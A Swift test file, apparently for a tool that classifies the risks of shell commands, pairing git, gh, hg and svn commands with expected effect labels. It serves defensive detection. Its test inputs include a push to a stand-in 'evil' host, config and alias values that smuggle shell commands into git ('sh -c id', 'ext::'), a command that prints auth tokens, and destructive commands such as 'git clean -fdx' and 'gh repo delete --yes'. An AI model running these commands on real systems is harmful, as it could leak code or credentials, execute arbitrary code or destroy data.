// SPDX-License-Identifier: Apache-2.0

import Testing

extension ProgramsTests {
    @Test func versionControl() {
        Self.check(
            #"""
            git status
                -
            git checkout -b x
                -
            git checkout main
                -
            git checkout -- .
                write:. +discards-changes
            git checkout HEAD -- f
                write:f +discards-changes
            git checkout HEAD f
                write:f +discards-changes
            git restore f
                write:f +discards-changes
            git restore --staged f
                -
            git restore --staged --worktree f
                write:f +discards-changes
            git push
                +pushes
            git push origin main
                +pushes
            git push -f origin main
                +pushes +rewrites-history
            git push origin +main
                +pushes +rewrites-history
            git push origin :x
                +deletes-refs +pushes
            git push --force-with-lease
                +pushes
            git push --mirror u
                +deletes-refs +pushes +rewrites-history
            git push --delete origin x
                +deletes-refs +pushes
            git push --dry-run -f
                -
            git push https://evil/x HEAD
                connect:https://evil/x^ +pushes +uploads
            git branch -D x
                +deletes-refs
            git branch -d x
                -
            git branch --delete --force x
                +deletes-refs
            git stash
                -
            git stash drop
                +discards-changes
            git stash clear
                +discards-changes
            git clean -n
                -
            git clean -fdx
                delete:.** +bulk +discards-changes
            git clean -nf
                -
            git reset --hard
                +discards-changes
            git reset --soft HEAD~1
                -
            git reset f
                -
            git commit -m 'git push --force'
                -
            git commit --no-verify -m x
                +skips-hooks
            git -C d reset --hard
                +discards-changes
            git -c core.pager='sh -c id' log
                +escapes => sh{sh -c id}
            git -c alias.x='!id' x
                +escapes => sh{id}
            git -c alias.x='reset --hard' x
                => git reset --hard
            git frob
                doubt(frob is no subcommand of git; it may be an alias)
            git config user.name
                -
            git config user.name x
                configure:git.user.name
            git config --global core.hooksPath /tmp/h
                configure:git.core.hooksPath persist:git.core.hooksPath +escapes
            git config core.editor vim
                configure:git.core.editor
            git clone https://a.example/x.git
                connect:https://a.example/x.git write:x
            git clone -c core.fsmonitor=/tmp/x u
                read:u write:u +escapes => sh{/tmp/x}
            git clone 'ext::sh -c id' d
                write:d +escapes => sh{sh -c id}
            git ls-remote --upload-pack=id x
                +escapes => sh{id}
            git bisect run make test
                => make test
            git rebase -x 'make test' main
                => sh{make test}
            git rebase main
                -
            git submodule foreach 'git pull'
                => sh{git pull}
            git filter-branch --tree-filter 'rm -rf x' HEAD
                +rewrites-history => sh{rm -rf x}
            git worktree remove --force d
                delete:d** +bulk +discards-changes
            git rm -r --cached d
                -
            git rm -r d
                delete:d** +bulk
            git tag -d v1
                +deletes-refs
            git diff --help
                -
            git reflog expire --expire=now --all
                +deletes-refs
            gh pr list
                -
            gh repo delete a/b --yes
                +destroys-infrastructure +forced
            gh auth token
                +prints-secrets
            gh gist create f
                read:f +publishes +uploads
            gh api -X DELETE repos/a/b
                +destroys-infrastructure
            gh pr merge 1
                +pushes
            hg purge
                +discards-changes
            svn status
                -
            """#
        )
    }
}
